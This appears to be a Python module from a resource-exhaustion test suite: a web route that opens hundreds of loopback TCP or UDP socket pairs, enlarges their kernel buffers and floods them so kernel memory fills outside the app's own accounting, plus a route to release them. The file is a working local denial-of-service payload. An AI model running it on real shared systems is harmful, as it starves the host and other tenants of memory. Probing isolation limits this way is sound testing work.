"""Fills the buffers of connections with itself, which are the kernel's memory and not the app's own: the host has one budget for all of them."""
import socket

from attack import application, given

TITLE = "memory bomb by buffers of sockets (TCP, UDP)"
WALL = "the plan's memory (memory cgroup, which counts them: v1 apart, up to a quarter)"
SECOND = "the limit of open files"
PAIRS = 200
SIZE = 4 << 20
held = []


def connections():
    with socket.create_server(("127.0.0.1", 0), backlog=PAIRS) as listener:
        for _ in range(PAIRS):
            one = socket.create_connection(listener.getsockname())
            other, _ = listener.accept()
            yield one, other
            yield other, one


def datagrams():
    for _ in range(PAIRS):
        one, other = (socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(2))
        other.bind(("127.0.0.1", 0))
        one.connect(other.getsockname())
        yield one, other


def bomb():
    block = bytes(60_000)
    for sender, receiver in connections() if given["kind"] == "tcp" else datagrams():
        held.extend((sender, receiver))
        receiver.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SIZE)
        sender.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, SIZE)
        sender.setblocking(False)
        try:
            # UDP drops what has no room.
            for _ in range(2 * SIZE // len(block)):
                sender.send(block)
        except BlockingIOError:
            pass
    return len(held)


def let_go():
    for one in held:
        one.close()
    held.clear()


ROUTES = {"/bomb": bomb, "/let_go": let_go}
app = application(globals())
